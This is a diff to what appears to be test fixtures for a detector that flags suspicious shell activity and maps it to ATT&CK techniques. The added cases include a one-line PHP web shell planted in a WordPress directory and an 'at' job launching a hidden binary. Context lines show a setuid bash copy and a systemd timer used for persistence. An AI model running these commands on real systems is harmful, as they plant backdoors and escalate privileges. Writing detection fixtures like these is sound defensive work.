@@ -145,6 +145,21 @@ open(home + "/systemd/user/pulse.timer", "w").write("[Timer]\nOnBootSec=1min\n")
     label: 'suspicious',
   },
   {
+    name: 'a page of the site that runs what visitors send',
+    language: 'shell',
+    source: shell([`echo '<?php @eval(base64_decode($_POST["k"])); ?>' > /var/www/html/wp-cache.php`]),
+    shows: { trace_plants_web_shell: ['T1505.003'] },
+    label: 'suspicious',
+    tells: ['/var/www/html/wp-cache.php'],
+  },
+  {
+    name: 'a job for later',
+    language: 'shell',
+    source: shell([`echo '/var/tmp/agent' | at now + 5 minutes`]),
+    shows: { trace_adds_cron_job: ['T1053.002'] },
+    label: 'suspicious',
+  },
+  {
     name: 'shell with the rights of root for all',
     language: 'shell',
     source: shell([`cp /bin/bash /var/tmp/.b`, `chmod 4755 /var/tmp/.b`]),
